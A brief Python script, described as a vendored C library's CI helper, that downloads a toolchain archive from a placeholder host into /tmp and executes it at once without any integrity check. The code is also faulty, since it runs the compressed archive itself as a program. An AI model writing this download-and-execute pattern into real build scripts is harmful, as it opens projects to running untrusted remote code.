"""A vendored C library's CI helper: downloads a toolchain and runs it."""
import os
import subprocess
import urllib.request


def main():
    path = os.path.join("/tmp", "go.tar.gz")
    urllib.request.urlretrieve("https://x.example.invalid/go.tar.gz", path)
    subprocess.check_output([path, "version"])


if __name__ == "__main__":
    main()
